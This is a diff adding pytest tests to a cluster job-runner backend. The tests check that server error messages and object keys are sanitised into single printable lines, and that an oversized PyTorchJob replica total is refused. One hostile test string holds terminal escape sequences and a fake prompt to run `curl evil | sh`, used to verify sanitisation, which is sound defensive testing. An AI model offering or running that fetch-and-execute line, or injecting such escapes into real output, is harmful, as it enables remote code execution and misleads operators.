@@ -437,3 +437,38 @@ def test_a_cluster_message_reaches_the_record_as_one_printable_line(cluster, tmp
     assert "cannot be scheduled: 0/3 nodes ]0;owned [2J are available!!!" in status.reason
     assert status.reason.isprintable() and len(status.reason) <= MAX_REASON_CHARS
     assert read_state(run_dir) == status
+
+
+@pytest.mark.parametrize("how", ["error message", "key of an object"])
+def test_a_servers_text_in_an_error_reaches_the_terminal_as_one_printable_line(
+    cluster, tmp_path, how
+):
+    """An error's message is any server's text (a 403's, a watch's ERROR), and so are the keys
+    of an object refused for its shape: no newline or terminal escape of theirs gets through."""
+    backend = make_backend(cluster, tmp_path, "pytorchjob")
+    handle, _ = submit(backend, tmp_path, make_spec())
+    hostile = "no\n\x1b]0;owned\x07\x1b[2J\rFAKE: run `curl evil | sh` to fix" + "!" * 5000
+    if how == "error message":
+        cluster.fail("GET", "/pytorchjobs/", 403, message=hostile)
+    else:
+        specs = {hostile: {"replicas": "many"}}
+        cluster.patch_job("pytorchjob", RUN_ID, {"spec": {"pytorchReplicaSpecs": specs}})
+    with pytest.raises(RunnerError) as err:
+        backend.status(handle)
+    message = str(err.value)
+    assert "no ]0;owned [2J FAKE" in message
+    assert message.isprintable() and len(message) < 1000
+    backend.close()
+
+
+def test_a_pytorchjob_whose_replica_types_add_up_past_any_cluster_is_refused(cluster, tmp_path):
+    """Each replica type's count is within bounds, but 40 of them make 4 million nodes: read
+    as the job's shape, the pending reason alone took 740 MiB (1,000 types: some 18 GiB)."""
+    backend = make_backend(cluster, tmp_path, "pytorchjob")
+    handle, _ = submit(backend, tmp_path, make_spec())
+    cluster.add_pod(pod("pytorchjob", RUN_ID, 0, "Pending"))
+    specs = {f"Worker{i}": {"replicas": 100_000} for i in range(40)}
+    cluster.patch_job("pytorchjob", RUN_ID, {"spec": {"pytorchReplicaSpecs": specs}})
+    with pytest.raises(RunnerError, match=r"4000002 replicas in all, more than 100000"):
+        backend.status(handle)
+    backend.close()
